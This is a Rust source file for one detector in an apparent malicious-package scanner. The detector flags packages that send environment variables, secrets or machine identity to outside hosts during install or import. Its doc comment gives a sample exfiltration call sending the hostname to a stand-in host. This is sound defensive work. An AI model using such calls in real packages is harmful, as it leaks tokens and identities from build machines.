//! While it is installed, the package sends the environment, a secret of it or the identity of the machine somewhere.
//!
//! Build machines hold tokens in their environment, and this is what they are attacked for. Who the user is and how the machine is called is
//! what the first probe of an attack collects; that it does so as soon as it is loaded counts as well. Platform, architecture and versions are not meant: downloads need them.
//!
//! **What to do:** do not install it; if it was installed, exchange the tokens of that machine. **Limits:** a value that passes
//! through a file is not followed. **Example:** `https.request({host: 'x.invalid', path: '/' + os.hostname()})`.

use super::common::*;

pub(super) const DETECTOR: Detector = Detector {
    id: "behaviour/inst-env-net",
    catalogue: "INST-ENV-NET",
    title: "sends environment or identity of the machine while it is installed",
    severity: Critical,
    ecosystems: &[],
    run,
};

fn run(package: &Package, findings: &mut Findings) {
    for (code, from, to, _) in package.flows() {
        let sends = matches!(to.what, What::NetSend | What::DnsQuery);
        if !sends || !is_private_source(from) {
            continue;
        }
        if code.stage(to) > Stage::Startup {
            probe(code, from, to, findings);
            continue;
        }
        let to_host = foreign(&to.detail);
        let what = match from.what {
            What::EnvAll => "the whole environment",
            What::EnvRead
                if to_host.as_ref().is_some_and(|host| host.belongs_to(&words::service_of(&from.detail))) =>
            {
                continue;
            }
            What::EnvRead => "a secret of the environment",
            What::HostIdentity | What::ExecOutput => "who and what this machine is",
            _ => "private files",
        };
        let grade = match (from.what, to_host.is_some()) {
            (What::EnvAll, true) => (Critical, Sure),
            (What::EnvAll, false) => (Critical, Likely),
            (What::EnvRead, false) => (Medium, Likely),
            (What::HostIdentity | What::ExecOutput, false) => (High, Likely),
            _ => (Critical, if code.reach.is_sure || code.reach.is_root { Sure } else { Likely }),
        };
        findings.tell(code, to, grade, &format!("sends {what} to {} {}", host(&to.detail), when(code, to)));
    }
}

/// Who is here and on which machine, told to an address that is written in the code as soon as it is loaded: the probe that goes ahead of
/// an attack by name. Programs tell it when they are started, libraries when they are called.
fn probe(code: &Code, from: &Fact, to: &Fact, findings: &mut Findings) {
    let tells = matches!(from.what, What::HostIdentity | What::ExecOutput);
    let is_unasked = code.stage(to) == Stage::Import && code.is_sure(to) && !code.reach.is_program;
    if tells && is_unasked && foreign(&to.detail).is_some() {
        let message =
            format!("sends who and what this machine is to {} {}", host(&to.detail), when(code, to));
        // Usage statistics that can be refused say so by the variables that refuse them.
        let may_refuse = of_file(code, What::EnvRead).any(|fact| {
            ["DO_NOT_TRACK", "TELEMETRY", "ANALYTICS"]
                .iter()
                .any(|word| fact.detail.to_ascii_uppercase().contains(word))
        });
        let grade = if may_refuse { (Low, Likely) } else { (High, Likely) };
        findings.tell(code, to, grade, &message);
    }
}
